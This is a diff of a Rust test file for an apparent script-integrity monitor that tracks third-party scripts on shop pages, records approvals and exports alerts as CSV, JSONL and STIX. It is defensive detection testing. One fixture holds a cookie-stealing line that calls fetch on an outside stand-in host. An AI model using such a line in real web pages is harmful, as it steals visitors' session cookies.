@@ -7,10 +7,14 @@ mod binary;
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use binary::{Folder, PLAIN, examples, run};
+use binary::{Folder, PLAIN, examples, run, run_on};
 use boon::{Compiler, SchemaIndex, Schemas};
 use serde_json::{Value, json};
-use verdict::export::{Entry, Sighting, StixBundle, Version, csv_header, csv_row};
+use verdict::export::{Entry, Sighting, StixBundle, csv_header, csv_row};
+use verdict::monitor::{
+    Authorisation, Dispatcher, JsonLinesSink, MemoryStore, Monitor, Observation, Route, Status,
+};
+use verdict::{ResourceKind, Timestamp};
 
 fn shop(format: &str) -> binary::Ran {
     let feed = format!("{}:hosts:malware", examples().join("feeds/demo-hosts.txt").display());
@@ -72,8 +76,9 @@ fn schemas() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/schemas")
 }
 
-/// Our own schema, with nothing allowed that it does not describe: the output and its description cannot drift apart.
-fn scan_schema() -> Schema {
+/// Our own schemas, with nothing allowed that they do not describe: the output and its description cannot drift apart. The
+/// named one is asked.
+fn own_schema(name: &str) -> Schema {
     fn close(schema: &mut Value) {
         if let Some(object) = schema.as_object_mut() {
             if object.get("properties").is_some_and(Value::is_object) {
@@ -84,10 +89,17 @@ fn scan_schema() -> Schema {
             items.iter_mut().for_each(close);
         }
     }
-    let mut schema =
-        json_file(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/schema/scan.schema.json"));
-    close(&mut schema);
-    Schema::of(vec![schema])
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/schema");
+    let mut documents = ["monitor", "scan"].map(|name| json_file(folder.join(format!("{name}.schema.json"))));
+    documents.iter_mut().for_each(close);
+    documents.sort_by_key(|document| {
+        !document["$id"].as_str().unwrap().ends_with(&format!("/{name}.schema.json"))
+    });
+    Schema::of(documents.into())
+}
+
+fn scan_schema() -> Schema {
+    own_schema("scan")
 }
 
 #[test]
@@ -121,17 +133,76 @@ fn entries_are_read_back_as_they_were_written() {
         assert_eq!(serde_json::to_value(&entry).unwrap(), line);
     }
     // With what a monitor adds.
-    let mut entry = malicious_entry();
-    let mut sighting = Sighting::new("active", "2026-11-20T08:00:00Z", "2026-11-22T08:00:00Z");
-    sighting.first_page_url = Some("https://shop.example/".to_owned());
-    entry.sighting = Some(sighting);
-    let mut version = Version::new("a".repeat(64), "2026-11-21T08:00:00Z");
-    version.changes.hosts_added.push("evil.example".to_owned());
-    version.scores = entry.verdict.scores;
-    entry.versions = vec![version, Version::new("b".repeat(64), "2026-11-20T08:00:00Z")];
+    let entry = remembered();
     let value = serde_json::to_value(&entry).unwrap();
     assert_eq!(serde_json::from_value::<Entry>(value.clone()).unwrap(), entry);
     scan_schema().accept(&value);
+}
+
+/// An entry as a monitor makes it: a script with two versions that somebody approved.
+fn remembered() -> Entry {
+    let mut feeds = threatfeed::FeedSet::builder();
+    feeds.feed(threatfeed::FeedSource::new("demo", threatfeed::Format::Domains), b"evil.example\n");
+    let engine = verdict::Engine::builder()
+        .scorer(jsintegrity::Scorer::bundled().unwrap())
+        .feeds(feeds.build().unwrap())
+        .build();
+    let mut monitor = Monitor::open(MemoryStore::new(), engine).unwrap();
+    let url = "https://cdn.evil.example/=x.js";
+    let seen = Observation::script(url).on_page("https://shop.example/");
+    for (source, hour) in [("a(1)", 8), ("a(1);fetch('https://c.example/'+document.cookie)", 9)] {
+        let at = time(&format!("2026-11-20T{hour:02}:00:00Z"));
+        monitor.observe(&seen.clone().with_source(source), at).unwrap();
+        let said = Authorisation::new(ResourceKind::Script, url, "=ratings", "Kim").approving();
+        if hour == 8 {
+            monitor.justify(&said, at).unwrap();
+        }
+    }
+    let at = time("2026-11-20T10:00:00Z");
+    let resource = monitor.resource_at(ResourceKind::Script, url, at).unwrap().unwrap();
+    let verdict = monitor.verdict(resource.id, at).unwrap().unwrap();
+    Entry::from((resource, verdict))
+}
+
+fn time(text: &str) -> Timestamp {
+    text.parse().unwrap()
+}
+
+#[test]
+fn an_entry_of_a_monitor_says_what_it_remembers() {
+    let entry = remembered();
+    let value = serde_json::to_value(&entry).unwrap();
+    assert_eq!(value["status"], "infrequent");
+    assert_eq!(
+        (&value["first_seen_at"], &value["last_seen_at"]),
+        (&json!("2026-11-20T08:00:00Z"), &json!("2026-11-20T09:00:00Z"))
+    );
+    assert_eq!((value["count"].as_u64(), value["versions"].as_array().unwrap().len()), (Some(2), 2));
+    let change = &value["versions"][0]["change"];
+    assert_eq!(
+        (&change["structure_changed"], &change["hosts_appeared"]),
+        (&json!(true), &json!(["c.example"]))
+    );
+    assert_eq!(value["hash"], value["versions"][0]["hash"]);
+    assert!(value["model"].is_string(), "the model that scored then");
+    let table = csv_records(&(csv_header() + &csv_row(&entry)));
+    let field = |name: &str| table[1][table[0].iter().position(|column| column == name).unwrap()].as_str();
+    for (name, want) in [
+        ("name", "https://cdn.evil.example/=x.js"),
+        ("malicious_by", "domain"),
+        ("status", "infrequent"),
+        ("first_seen_at", "2026-11-20T08:00:00Z"),
+        ("last_seen_at", "2026-11-20T09:00:00Z"),
+        ("first_page_url", "https://shop.example/"),
+        ("count", "2"),
+        ("versions", "2"),
+        ("justification", "'=ratings"),
+        ("justified_by", "Kim"),
+        ("justified_at", "2026-11-20T08:00:00Z"),
+        ("authorisation", "code_changed"),
+    ] {
+        assert_eq!(field(name), want, "{name}");
+    }
 }
 
 /// Files of version 1 were written by the first release; they stay readable, and as much as they said is kept.
@@ -149,6 +220,68 @@ fn old_files_stay_readable() {
         }
         scan_schema().accept(&old);
     }
+}
+
+#[test]
+fn lines_of_a_monitor_are_what_the_published_schema_says() {
+    let schema = own_schema("monitor");
+    let folder = Folder::new(&[("feed.txt", b"evil.example\n")]);
+    let (state, compiled) = (folder.at("state.db"), folder.at("x.vfeed"));
+    let feed = format!("{}:domains:phishing", folder.at("feed.txt"));
+    assert_eq!(run(&["feeds", "build", "-o", &compiled, &feed]).status, Some(0));
+    let script = |text: &str| json!({"kind": "script", "url": "https://cdn.evil.example/a.js?<b>", "page_url": "https://shop.example/", "text": text});
+    let skimmer = fs::read_to_string(examples().join("shop/js/order-review.js")).unwrap();
+    let seen = [
+        script(PLAIN),
+        script(PLAIN),
+        script(PLAIN),
+        script(&skimmer),
+        json!({"kind": "connection", "url": "wss://live.evil.example/x"}),
+        json!({"kind": "nothing"}),
+    ];
+    let said = json!({"url": seen[0]["url"], "justification": "ratings", "by": "Kim", "approved": true});
+    let lines = |values: &[Value]| values.iter().map(|value| format!("{value}\n")).collect::<String>();
+    let mut kinds = std::collections::BTreeSet::new();
+    let mut total = 0;
+    for (command, input) in [
+        (&["observe"][..], lines(&seen[..3])),
+        (&["justify"], lines(&[said, json!({"url": "https://nobody.example/"})])),
+        (&["observe"], lines(&seen[3..])),
+        (&["feeds", &compiled], String::new()),
+        (&["list"], String::new()),
+        (&["alerts", "--all"], String::new()),
+        (&["export", "--format", "jsonl"], String::new()),
+        (&["export", "--format", "tamper"], String::new()),
+        (&["forget"], String::new()),
+    ] {
+        let arguments = [&["monitor", "--state", &state, "--at", "2026-11-23T08:00:00Z"], command].concat();
+        let ran = run_on(&arguments, input.as_bytes());
+        for line in ran.lines() {
+            schema.accept(&line);
+            kinds.extend(line["alert"].as_str().map(str::to_owned));
+            total += 1;
+        }
+    }
+    assert!(total > 15, "{total}");
+    for kind in ["new_resource", "new_domain", "code_change", "malicious_script", "malicious_domain"] {
+        assert!(kinds.contains(kind), "{kind}: {kinds:?}");
+    }
+
+    // What a webhook gets, and a file of dead letters.
+    let mut monitor = Monitor::open(MemoryStore::new(), verdict::Engine::builder().build()).unwrap();
+    let (at, url) = (time("2026-11-23T08:00:00Z"), "https://cdn.example/a.js");
+    monitor.observe_all(&[url, url, url].map(Observation::script), at).unwrap();
+    let out = std::sync::Arc::new(JsonLinesSink::new(Vec::new()));
+    Dispatcher::new()
+        .route(Route::new("all", std::sync::Arc::clone(&out)).from_event(1))
+        .dispatch(&monitor, at)
+        .unwrap();
+    let written = std::sync::Arc::into_inner(out).unwrap().into_inner();
+    let batch: Value = serde_json::from_slice(&written).unwrap();
+    assert_eq!(batch["alerts"][0]["count"], 1);
+    schema.accept(&batch);
+    // The schema can say no.
+    assert!(schema.problems(&json!({"alert": "new_resource"})).is_some());
 }
 
 #[test]
@@ -220,7 +353,8 @@ fn stix_bundles_hold_valid_indicators() {
 
     // What is seen again keeps its id.
     let mut entry = malicious_entry();
-    entry.sighting = Some(Sighting::new("active", "2026-11-20T08:00:00Z", "2026-11-22T08:00:00Z"));
+    entry.sighting =
+        Some(Sighting::new(Status::Active, time("2026-11-20T08:00:00Z"), time("2026-11-22T08:00:00Z")));
     let ids = |made_at: &str| {
         let mut bundle = StixBundle::new(made_at);
         bundle.add(&entry);
